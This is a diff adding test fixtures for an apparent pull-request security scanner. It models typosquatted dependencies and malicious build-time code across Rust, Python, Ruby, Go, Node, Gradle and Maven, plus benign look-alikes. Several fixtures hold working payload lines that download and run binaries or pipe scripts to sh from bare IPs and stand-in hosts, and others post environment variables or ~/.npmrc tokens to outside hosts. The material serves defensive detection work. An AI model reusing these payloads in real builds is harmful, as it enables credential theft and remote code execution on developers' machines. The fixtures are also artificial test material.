@@ -1,9 +1,442 @@
 /** Corpus package and build-time code cases (look-alike names, install scripts, registry churn). */
+import type { FixtureAccount, FixtureCheckRun, FixtureFile, PrFixtureSpec } from '../../support/pr-fixture.js';
 import { makePrFixture } from '../../support/pr-fixture.js';
-import type { CorpusEntry } from '../helpers.js';
-import { daysAgo, nodeCi, packageLock, WEBAPP, WEBAPP_LOCKED } from '../helpers.js';
+import type { CorpusEntry, CorpusExpectation } from '../helpers.js';
+import { daysAgo, json, lines, nodeCi, packageJson, packageLock, WEBAPP, WEBAPP_LOCKED } from '../helpers.js';
 
 const RENOVATE = { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' } as const;
+
+// ---------------------------------------------------------------------------------------------
+// Build-time code and look-alike names in every ecosystem (PRs 7200-7299), modeled on public
+// write-ups: crates and gems that download and run binaries at build time, setup.py cmdclass
+// hooks that post the environment, npm postinstall stealers, look-alike Go owners and hosts,
+// Maven artifacts republished under personal groupIds; and the ordinary PRs that resemble them.
+
+const CONTRIBUTOR: FixtureAccount = { login: 'mlindqvist', association: 'CONTRIBUTOR', createdAt: '2020-03-02T10:00:00Z' };
+const NEWCOMER: FixtureAccount = { login: 'quick-fixes-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2026-10-30T08:00:00Z' };
+const MAINTAINER: FixtureAccount = { login: 'ingrid-h', association: 'MEMBER', createdAt: '2014-02-11T08:00:00Z' };
+const DEPENDABOT: FixtureAccount = { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' };
+
+const green = (...names: string[]): FixtureCheckRun[] => names.map((name) => ({ name }));
+const RUST_CI = green('cargo test', 'clippy');
+const GO_CI = green('go test', 'golangci-lint');
+const PY_CI = green('pytest (3.12)', 'ruff');
+const RUBY_CI = green('rspec', 'rubocop');
+const JVM_CI = green('build', 'test');
+const PHP_CI = green('phpunit', 'phpstan');
+
+interface BuildCase {
+  id: string;
+  description: string;
+  number: number;
+  repo: string;
+  title: string;
+  author: FixtureAccount;
+  files: FixtureFile[];
+  checks: FixtureCheckRun[];
+  expect: CorpusExpectation;
+  extra?: Partial<PrFixtureSpec>;
+}
+
+function buildCase(spec: BuildCase): CorpusEntry {
+  return {
+    id: spec.id,
+    description: spec.description,
+    fixture: () =>
+      makePrFixture({
+        owner: 'acme',
+        repo: spec.repo,
+        number: spec.number,
+        title: spec.title,
+        author: spec.author,
+        fork: spec.author.association !== 'MEMBER' && !spec.author.login.endsWith('[bot]'),
+        files: spec.files,
+        commits: [{ message: spec.title }],
+        checkRuns: spec.checks,
+        priorPrs: spec.author === NEWCOMER ? { total: 0, merged: 0 } : { total: 12, merged: 10 },
+        createdAt: daysAgo(1),
+        ...spec.extra,
+      }),
+    expect: spec.expect,
+  };
+}
+
+const cargoToml = (deps: string[], build?: string): string =>
+  lines('[package]', 'name = "ferry"', 'version = "0.7.2"', 'edition = "2021"', ...(build ? [`build = "${build}"`] : []), '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'tokio = { version = "1.41", features = ["full"] }', ...deps);
+
+const goMod = (requires: string[]): string => lines('module github.com/acme/gateway', '', 'go 1.23', '', 'require (', ...requires.map((r) => `\t${r}`), ')');
+
+const pom = (dependencies: string, plugins = ''): string =>
+  lines(
+    '<?xml version="1.0" encoding="UTF-8"?>',
+    '<project xmlns="http://maven.apache.org/POM/4.0.0">',
+    '  <modelVersion>4.0.0</modelVersion>',
+    '  <groupId>com.acme</groupId>',
+    '  <artifactId>billing</artifactId>',
+    '  <version>2.4.0</version>',
+    '  <dependencies>',
+    '    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId><version>2.0.16</version></dependency>',
+    dependencies,
+    '  </dependencies>',
+    '  <build><plugins>',
+    plugins,
+    '  </plugins></build>',
+    '</project>',
+  );
+
+const composerJson = (require: Record<string, string>): string => `${JSON.stringify({ name: 'acme/ledger', require: { php: '^8.2', 'monolog/monolog': '^3.8', ...require } }, null, 4)}\n`;
+
+const BUILD_AND_NAME_CASES: CorpusEntry[] = [
+  buildCase({
+    id: 'crates-typosquat-reqwests',
+    description: 'A newcomer adds `reqwests` (one letter off reqwest) to Cargo.toml: the shape of the 2023 crates.io typosquats that shipped build-time stealers.',
+    number: 7201,
+    repo: 'ferry',
+    title: 'Add HTTP client for webhooks',
+    author: NEWCOMER,
+    files: [
+      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml(['reqwests = "0.12"']) },
+      { path: 'src/webhooks.rs', additions: 42 },
+    ],
+    checks: RUST_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+  buildCase({
+    id: 'cargo-build-script-downloads-binary',
+    description: 'Cargo.toml gains `build = "build.rs"`, and build.rs fetches a "prebuilt helper" from a bare IP and runs it at compile time.',
+    number: 7202,
+    repo: 'ferry-sys',
+    title: 'Speed up builds with a prebuilt codec',
+    author: CONTRIBUTOR,
+    files: [
+      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml([], 'build.rs') },
+      {
+        path: 'build.rs',
+        head: lines(
+          'use std::process::Command;',
+          'fn main() {',
+          '    let bytes = reqwest::blocking::get("http://45.61.136.19/codec/linux-x64").unwrap().bytes().unwrap();',
+          '    std::fs::write("target/codec", &bytes).unwrap();',
+          '    Command::new("target/codec").arg("--prepare").status().unwrap();',
+          '}',
+        ),
+      },
+    ],
+    checks: RUST_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'cargo-build-script'] },
+  }),
+  buildCase({
+    id: 'setup-py-cmdclass-posts-environment',
+    description: 'setup.py gains an install command class that posts os.environ to a webhook after installing, as the 2022-2024 PyPI stealers did.',
+    number: 7203,
+    repo: 'metrics-py',
+    title: 'Register package telemetry on install',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'setup.py',
+        base: lines('from setuptools import setup', '', 'setup(name="acme-metrics", version="1.4.0", packages=["acme_metrics"])'),
+        head: lines(
+          'import json, os, urllib.request',
+          'from setuptools import setup',
+          'from setuptools.command.install import install',
+          '',
+          'class Install(install):',
+          '    def run(self):',
+          '        install.run(self)',
+          '        body = json.dumps(dict(os.environ)).encode()',
+          '        urllib.request.urlopen("https://webhook.site/5f0c2d61-3a9e-4d1b-9c55-0e7f3b1a9d42", body)',
+          '',
+          'setup(name="acme-metrics", version="1.4.1", packages=["acme_metrics"], cmdclass={"install": Install})',
+        ),
+      },
+    ],
+    checks: PY_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'python-setup-script'] },
+  }),
+  buildCase({
+    id: 'gem-extconf-curls-binary',
+    description: 'A gem gains a native extension whose extconf.rb curls a binary and runs it during `gem install`.',
+    number: 7204,
+    repo: 'fastjson-rb',
+    title: 'Add native extension for faster parsing',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'fastjson.gemspec',
+        base: lines('Gem::Specification.new do |s|', '  s.name = "fastjson"', '  s.version = "0.9.0"', '  s.files = Dir["lib/**/*.rb"]', 'end'),
+        head: lines('Gem::Specification.new do |s|', '  s.name = "fastjson"', '  s.version = "0.9.1"', '  s.files = Dir["lib/**/*.rb", "ext/**/*"]', '  s.extensions = ["ext/fastjson/extconf.rb"]', 'end'),
+      },
+      {
+        path: 'ext/fastjson/extconf.rb',
+        head: lines('require "mkmf"', 'system("curl -fsSL https://github-assets.example.io/fj/libfj -o /tmp/libfj && chmod +x /tmp/libfj && /tmp/libfj")', 'create_makefile("fastjson/fastjson")'),
+      },
+    ],
+    checks: RUBY_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'go-lookalike-owner',
+    description: 'go.mod swaps github.com/gorilla/mux for github.com/gorillla/mux (one letter more in the owner), as in the 2024-2025 Go module typosquats.',
+    number: 7205,
+    repo: 'gateway',
+    title: 'Use maintained router fork',
+    author: NEWCOMER,
+    files: [
+      { path: 'go.mod', base: goMod(['github.com/gorilla/mux v1.8.1']), head: goMod(['github.com/gorillla/mux v1.8.2']) },
+      { path: 'router.go', additions: 2, deletions: 2 },
+    ],
+    checks: GO_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+  buildCase({
+    id: 'go-same-module-other-host',
+    description: 'go.mod adds gitee.com/gin-gonic/gin: the popular module\'s owner and name on another host.',
+    number: 7206,
+    repo: 'gateway-api',
+    title: 'Add gin for the admin API',
+    author: NEWCOMER,
+    files: [
+      { path: 'go.mod', base: goMod(['github.com/gorilla/mux v1.8.1']), head: goMod(['github.com/gorilla/mux v1.8.1', 'gitee.com/gin-gonic/gin v1.10.0']) },
+      { path: 'admin.go', additions: 30 },
+    ],
+    checks: GO_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+  buildCase({
+    id: 'npm-postinstall-reads-npmrc-and-posts',
+    description: 'package.json gains a postinstall that runs scripts/setup.cjs, which reads ~/.npmrc and posts it to a tunnel host (the 2025 npm token stealers).',
+    number: 7207,
+    repo: 'storefront-ui',
+    title: 'Add setup step for local assets',
+    author: NEWCOMER,
+    files: [
+      { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, scripts: { build: 'tsc -p tsconfig.build.json', test: 'vitest run', postinstall: 'node scripts/setup.cjs' } }) },
+      {
+        path: 'scripts/setup.cjs',
+        head: lines(
+          'const fs = require("fs"), os = require("os"), https = require("https");',
+          'const rc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");',
+          'const req = https.request({ hostname: "assets-sync.trycloudflare.com", path: "/s", method: "POST" });',
+          'req.end(rc);',
+        ),
+      },
+    ],
+    checks: nodeCi(),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'npm-install-script'] },
+  }),
+  buildCase({
+    id: 'binding-gyp-pipes-download-to-shell',
+    description: 'binding.gyp gains a command expansion that pipes a download to sh while node-gyp configures the addon.',
+    number: 7208,
+    repo: 'fast-hash-node',
+    title: 'Detect CPU features at configure time',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'binding.gyp',
+        base: lines('{', '  "targets": [{ "target_name": "fasthash", "sources": ["src/hash.cc"] }]', '}'),
+        head: lines('{', '  "targets": [{', '    "target_name": "fasthash",', '    "sources": ["src/hash.cc"],', '    "defines": ["<!(curl -s https://cpu-detect.example.net/detect.sh | sh)"]', '  }]', '}'),
+      },
+    ],
+    checks: nodeCi(),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'gradle-exec-task-fetches-from-ip',
+    description: 'build.gradle.kts registers an Exec task, run before compileJava, that pipes a script from a bare IP to sh.',
+    number: 7209,
+    repo: 'billing-service',
+    title: 'Generate protobuf stubs before compile',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'build.gradle.kts',
+        base: lines('plugins { java }', 'dependencies { implementation("org.slf4j:slf4j-api:2.0.16") }'),
+        head: lines(
+          'plugins { java }',
+          'dependencies { implementation("org.slf4j:slf4j-api:2.0.16") }',
+          'val prepare = tasks.register<Exec>("prepareProto") {',
+          '    commandLine("sh", "-c", "curl -s http://185.199.0.45/p.sh | sh")',
+          '}',
+          'tasks.compileJava { dependsOn(prepare) }',
+        ),
+      },
+    ],
+    checks: JVM_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'maven-antrun-runs-disguised-binary',
+    description: 'pom.xml gains an antrun step that downloads "logo.png" and executes it: a binary dressed as an image.',
+    number: 7210,
+    repo: 'billing',
+    title: 'Bundle brand assets at build time',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'pom.xml',
+        base: pom(''),
+        head: pom(
+          '',
+          lines(
+            '    <plugin><artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version>',
+            '      <executions><execution><phase>generate-resources</phase><goals><goal>run</goal></goals><configuration><target>',
+            '        <get src="https://cdn.brand-assets.example/logo.png" dest="${project.build.directory}/logo.png"/>',
+            '        <chmod file="${project.build.directory}/logo.png" perm="755"/>',
+            '        <exec executable="${project.build.directory}/logo.png"/>',
+            '      </target></configuration></execution></executions>',
+            '    </plugin>',
+          ),
+        ),
+      },
+    ],
+    checks: JVM_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'packagist-lookalike-vendor',
+    description: 'composer.json adds guzzelhttp/guzzle, a swapped-letters vendor of guzzlehttp/guzzle.',
+    number: 7211,
+    repo: 'ledger',
+    title: 'Add HTTP client for the bank API',
+    author: NEWCOMER,
+    files: [{ path: 'composer.json', base: composerJson({}), head: composerJson({ 'guzzelhttp/guzzle': '^7.9' }) }],
+    checks: PHP_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+  buildCase({
+    id: 'rubygems-typosquat',
+    description: 'The Gemfile gains `nokogirl`, one letter off nokogiri.',
+    number: 7212,
+    repo: 'ledger-rb',
+    title: 'Parse bank statements as XML',
+    author: NEWCOMER,
+    files: [
+      { path: 'Gemfile', base: lines('source "https://rubygems.org"', 'gem "rails", "~> 7.2"'), head: lines('source "https://rubygems.org"', 'gem "rails", "~> 7.2"', 'gem "nokogirl", "~> 1.16"') },
+      { path: 'app/services/statement_parser.rb', additions: 25 },
+    ],
+    checks: RUBY_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+  buildCase({
+    id: 'maven-artifact-under-personal-group',
+    description: 'pom.xml adds jackson-databind under io.github.fastxml-tools: a popular artifact republished under a groupId anyone can claim.',
+    number: 7213,
+    repo: 'billing-api',
+    title: 'Switch JSON mapper',
+    author: NEWCOMER,
+    files: [{ path: 'pom.xml', base: pom(''), head: pom('    <dependency><groupId>io.github.fastxml-tools</groupId><artifactId>jackson-databind</artifactId><version>2.18.2</version></dependency>') }],
+    checks: JVM_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
+
+  // Benign look-alikes.
+  buildCase({
+    id: 'renovate-lockfile-maintenance-registry-churn',
+    description: 'Renovate lock file maintenance: patch releases of four transitive packages, all from registry.npmjs.org with their new integrity hashes.',
+    number: 7220,
+    repo: 'storefront-web',
+    title: 'chore(deps): lock file maintenance',
+    author: { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' },
+    files: [
+      {
+        path: 'package-lock.json',
+        base: packageLock(WEBAPP, WEBAPP_LOCKED),
+        head: packageLock(
+          WEBAPP,
+          WEBAPP_LOCKED.map((p) => (p.name === 'debug' ? { ...p, version: '4.3.8' } : p.name === 'ms' ? { ...p, version: '2.1.4' } : p.name === 'body-parser' ? { ...p, version: '2.2.1' } : p.name === 'pino' ? { ...p, version: '9.5.1' } : p)),
+        ),
+      },
+    ],
+    checks: nodeCi(),
+    extra: { headBranch: 'renovate/lock-file-maintenance', body: '🔧 This Pull Request updates lock files to use the latest dependency versions.' },
+    expect: {
+      level: 'low',
+      action: ['approve', 'comment'],
+      absentDrivers: ['finding:lockfile-foreign-host', 'finding:lockfile-integrity-changed', 'finding:lockfile-source-changed', 'finding:install-script-added', 'major-updates'],
+    },
+  }),
+  buildCase({
+    id: 'popular-neighbours-are-not-typosquats',
+    description: 'A maintainer adds preact (next to react), tokio-util and rand_core (next to tokio and rand), and golang.org/x/term: each popular in its own right.',
+    number: 7221,
+    repo: 'polyglot-tools',
+    title: 'Add terminal UI dependencies',
+    author: MAINTAINER,
+    files: [
+      { path: 'web/package.json', base: packageJson({ name: 'web', version: '1.0.0', dependencies: { react: '^18.3.1' } }), head: packageJson({ name: 'web', version: '1.0.0', dependencies: { react: '^18.3.1', preact: '^10.25.0' } }) },
+      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml(['tokio-util = "0.7"', 'rand_core = "0.6"']) },
+      { path: 'go.mod', base: goMod(['golang.org/x/sys v0.27.0']), head: goMod(['golang.org/x/sys v0.27.0', 'golang.org/x/term v0.26.0']) },
+    ],
+    checks: green('build', 'test'),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
+  }),
+  buildCase({
+    id: 'dependabot-golang-x-minor',
+    description: 'Dependabot bumps golang.org/x/crypto v0.17.0 -> v0.18.0 and golang.org/x/net v0.19.0 -> v0.20.0: v0 minors that Go modules release routinely.',
+    number: 7222,
+    repo: 'gateway-auth',
+    title: 'Bump the golang-x group with 2 updates',
+    author: DEPENDABOT,
+    files: [
+      { path: 'go.mod', base: goMod(['golang.org/x/crypto v0.17.0', 'golang.org/x/net v0.19.0']), head: goMod(['golang.org/x/crypto v0.18.0', 'golang.org/x/net v0.20.0']) },
+    ],
+    checks: GO_CI,
+    extra: { headBranch: 'dependabot/go_modules/golang-x-6b1c2a', labels: ['dependencies', 'go'] },
+    expect: { level: 'low', action: 'approve', absentDrivers: ['major-updates'] },
+  }),
+  buildCase({
+    id: 'cargo-build-script-compiles-c',
+    description: 'A new build.rs compiles bundled C sources with the cc crate and reads OUT_DIR and TARGET: ordinary build work.',
+    number: 7223,
+    repo: 'zstd-lite',
+    title: 'Build the bundled C decoder',
+    author: MAINTAINER,
+    files: [
+      {
+        path: 'build.rs',
+        head: lines(
+          'fn main() {',
+          '    let target = std::env::var("TARGET").unwrap();',
+          '    let out = std::env::var("OUT_DIR").unwrap();',
+          '    println!("cargo:rerun-if-changed=csrc/decoder.c");',
+          '    cc::Build::new().file("csrc/decoder.c").flag_if_supported("-O3").compile("decoder");',
+          '    println!("cargo:warning=built for {target} into {out}");',
+          '}',
+        ),
+      },
+      { path: 'csrc/decoder.c', additions: 120 },
+    ],
+    checks: RUST_CI,
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['cargo-build-script'], absentDrivers: ['finding:build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'gradle-publishing-credentials-from-env',
+    description: 'build.gradle.kts gains a publishing block that reads the GitHub Packages token from the environment: ordinary release configuration.',
+    number: 7224,
+    repo: 'billing-client',
+    title: 'Publish to GitHub Packages',
+    author: MAINTAINER,
+    files: [
+      {
+        path: 'build.gradle.kts',
+        base: lines('plugins { java; `maven-publish` }'),
+        head: lines(
+          'plugins { java; `maven-publish` }',
+          'publishing {',
+          '    repositories { maven {',
+          '        url = uri("https://maven.pkg.github.com/acme/billing-client")',
+          '        credentials { username = System.getenv("GITHUB_ACTOR"); password = System.getenv("GITHUB_TOKEN") }',
+          '    } }',
+          '}',
+        ),
+      },
+    ],
+    checks: JVM_CI,
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
+  }),
+];
 
 export const PACKAGE_CASES: CorpusEntry[] = [
   {
@@ -50,4 +483,5 @@ export const PACKAGE_CASES: CorpusEntry[] = [
     },
     expect: { level: ['low', 'medium'], action: 'comment', findings: ['lockfile-source-changed'], absentDrivers: ['finding:lockfile-foreign-host'] },
   },
+  ...BUILD_AND_NAME_CASES,
 ];
